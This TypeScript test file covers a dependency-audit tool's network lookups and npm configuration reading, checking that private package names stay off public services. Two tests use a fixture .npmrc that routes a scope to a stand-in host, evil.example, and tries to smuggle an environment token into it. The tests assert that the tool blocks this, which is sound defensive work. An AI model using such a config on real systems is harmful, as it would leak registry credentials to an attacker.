import { strict as assert } from 'node:assert';
import { parseManifest, requestsFor, gather } from '../../src/core/index';
import type { Evidence } from '../../src/core/index';
import { createNetworkSources } from '../../src/sources/networkSources';
import { npmConfigFrom, readNpmConfig } from '../../src/sources/npmConfig';
import { createPrivacyRule } from '../../src/sources/privacy';
import { startDepsDev } from '../standins/depsDev';
import { startNpmRegistry } from '../standins/npmRegistry';
import { startOsv } from '../standins/osv';
import { startScorecardApi } from '../standins/scorecardApi';
import type { StandIn } from '../standins/server';
import { now, running, tempFolder } from './support';
import type { TempFolder } from './support';

const manifest = parseManifest(
  JSON.stringify({
    dependencies: {
      open: '^1.0.0',
      alias: 'npm:@acme/hidden-alias@^1.0.0',
      '@acme/hidden-scope': '^1.0.0',
      'hidden-by-policy': '^1.0.0',
      'hidden-workspace': '^1.0.0',
      'hidden-file': 'file:../x',
      'hidden-git': 'git+https://git.acme.example/hidden-git.git',
      'hidden-link': 'workspace:*',
    },
  }),
).value;

describe('sources/networkSources', () => {
  let temp: TempFolder;
  let registry: StandIn;
  let acme: StandIn;
  let depsDev: StandIn;
  let scorecard: StandIn;
  let osv: StandIn;
  const all = (): StandIn[] => [registry, acme, depsDev, scorecard, osv];
  before(async () => {
    const repository = 'github:o/r';
    const hidden = { versions: { '1.0.0': { license: 'MIT', repository } } };
    registry = await startNpmRegistry({ open: { versions: { '1.0.0': { license: 'MIT', repository } } } });
    acme = await startNpmRegistry({ '@acme/hidden-alias': hidden, '@acme/hidden-scope': hidden });
    const links = [{ label: 'SOURCE_REPO', url: 'git+https://github.com/o/r.git' }];
    depsDev = await startDepsDev({
      versions: { 'open@1.0.0': { licenses: ['MIT'], advisoryKeys: [], links } },
      batch: { pageSize: 100 },
    });
    osv = await startOsv({});
    scorecard = await startScorecardApi({
      'github.com/o/r': {
        date: '2026-10-01',
        repo: { name: 'github.com/o/r' },
        score: 7,
        checks: [{ name: 'SAST', score: 1 }],
      },
    });
  });
  beforeEach(() => {
    temp = tempFolder();
    for (const server of all()) {
      server.fail(undefined);
      server.requests.length = 0;
    }
  });
  afterEach(() => temp.remove());
  after(() => Promise.all(all().map((server) => server.close())));

  const npm = () => npmConfigFrom({ registry: registry.url, '@acme:registry': acme.url });
  const privacyOf = () =>
    createPrivacyRule({
      registryOf: npm().registryOf,
      publicRegistry: registry.url,
      patterns: [{ pattern: 'hidden-by-*', from: 'policy' }],
      workspacePackages: new Set(['hidden-workspace']),
    });
  const sources = () =>
    createNetworkSources({
      npm: npm(),
      now,
      cacheFolder: temp.path,
      depsDev: depsDev.url,
      scorecard: scorecard.url,
      osv: osv.url,
      timeoutMs: 400,
    });
  const evidence = async (): Promise<Map<string, Evidence>> => {
    const known = await gather(
      requestsFor(manifest, privacyOf()),
      { sources: sources(), offline: [] },
      running,
    );
    return new Map([...known].map(([key, value]) => [key.split('|')[0] ?? '', value]));
  };

  it('never sends a private name to a public service', async () => {
    await evidence();
    depsDev.fail({ kind: 'status', status: 500 });
    temp.remove();
    // Now OSV is asked, too, for deps.dev gave no advisories.
    await evidence();
    for (const server of [registry, depsDev, scorecard, osv]) {
      assert.ok(server.requests.length > 0);
      assert.doesNotMatch(JSON.stringify(server.requests), /hidden|acme/i);
    }
    assert.deepEqual([...new Set(acme.requests.map(({ path }) => path))].sort(), [
      '/@acme%2fhidden-alias',
      '/@acme%2fhidden-alias/1.0.0',
      '/@acme%2fhidden-scope',
      '/@acme%2fhidden-scope/1.0.0',
    ]);
  });

  it('says why a private package was not looked up', async () => {
    const known = await evidence();
    for (const name of ['hidden-by-policy', 'hidden-workspace', 'hidden-file', 'hidden-git', 'hidden-link']) {
      assert.deepEqual([...new Set(known.get(name)?.gaps.map((gap) => gap.why))], ['private'], name);
    }
    assert.equal(known.get('alias')?.licenses[0]?.value, 'MIT');
  });

  it('adds up what each source knows', async () => {
    const open = (await evidence()).get('open');
    assert.equal(open?.version?.value, '1.0.0');
    assert.deepEqual(
      open.licenses.map(({ origin }) => origin.source),
      ['deps.dev'],
    );
    assert.deepEqual(
      open.scorecards.map(({ value, origin }) => [value.score, origin.source]),
      [[7, 'scorecard']],
    );
  });

  it('needs no request when the cache is warm, and gives the same', async () => {
    const cold = await evidence();
    for (const server of all()) server.requests.length = 0;
    const warm = await evidence();
    assert.deepEqual(
      all().flatMap(({ requests }) => requests),
      [],
    );
    assert.deepEqual(warm, cold);
  });

  it('turns silence into gaps, within its budget', async () => {
    for (const server of all()) server.fail({ kind: 'silent' });
    const start = performance.now();
    const open = (await evidence()).get('open');
    assert.ok(performance.now() - start < 3_000);
    assert.deepEqual([open?.version, open?.licenses], [undefined, []]);
    assert.ok(open?.gaps.some((gap) => gap.source === 'npm' && gap.why === 'time-out'));
  });

  it('leaves out the services that are switched off', () => {
    const some = createNetworkSources({ npm: npm(), now, depsDev: false, scorecard: false, osv: false });
    assert.deepEqual(
      some.map(({ id, reach, facts }) => [id, reach, facts[0]]),
      [
        ['npm', 'registry', 'version'],
        ['npm', 'registry', 'license'],
      ],
    );
  });
});

describe('sources/npmConfig, from files', () => {
  let home: TempFolder;
  let project: TempFolder;
  beforeEach(() => {
    home = tempFolder();
    project = tempFolder();
  });
  afterEach(() => {
    home.remove();
    project.remove();
  });
  const read = (trusted: boolean, environment: NodeJS.ProcessEnv = {}) =>
    readNpmConfig({
      root: project.path,
      home: home.path,
      trusted,
      environment: { PREFIX: home.path, ...environment },
    });

  it('follows the order of npm: environment, project, user, global', async () => {
    home.write('etc/npmrc', 'registry=https://global.example\n@g:registry=https://g.example');
    home.write('.npmrc', 'registry=https://user.example\n@u:registry=https://u.example');
    project.write('.npmrc', 'registry=https://project.example');
    assert.equal((await read(true)).registryOf('x'), 'https://project.example/');
    assert.equal((await read(true)).registryOf('@u/x'), 'https://u.example/');
    assert.equal((await read(true)).registryOf('@g/x'), 'https://g.example/');
    const fromEnvironment = await read(true, {
      NPM_CONFIG_REGISTRY: 'https://env.example',
      'npm_config_@e:registry': 'https://e.example',
    });
    assert.equal(fromEnvironment.registryOf('x'), 'https://env.example/');
    assert.equal(fromEnvironment.registryOf('@e/x'), 'https://e.example/');
  });

  it("lets an untrusted project's settings make names private, and cause no request", async () => {
    home.write('.npmrc', 'registry=https://user.example');
    project.write('.npmrc', '@acme:registry=https://evil.example\n//evil.example/:_authToken=x');
    const config = await read(false);
    assert.equal(config.registryOf('@acme/ui'), 'https://evil.example/');
    assert.equal(config.askableRegistryOf('@acme/ui'), undefined);
    assert.equal(config.askableRegistryOf('left-pad'), 'https://user.example/');
    assert.deepEqual(config.credentials, {});
  });

  it('never puts a secret of the environment into what a project names', async () => {
    home.write('.npmrc', '//user.example/:_authToken=${TOKEN}\n');
    project.write(
      '.npmrc',
      '@acme:registry=https://evil.example/${TOKEN}\n//evil.example/:_authToken=${TOKEN}\n//own.example/:_authToken=literal',
    );
    const config = await read(true, { TOKEN: 's3cret' });
    assert.deepEqual(config.credentials, {
      '//user.example/:_authToken': 's3cret',
      '//own.example/:_authToken': 'literal',
    });
    assert.equal(config.registryOf('@acme/x'), 'https://evil.example/${TOKEN}');
    assert.equal(config.askableRegistryOf('@acme/x'), undefined);
  });
});
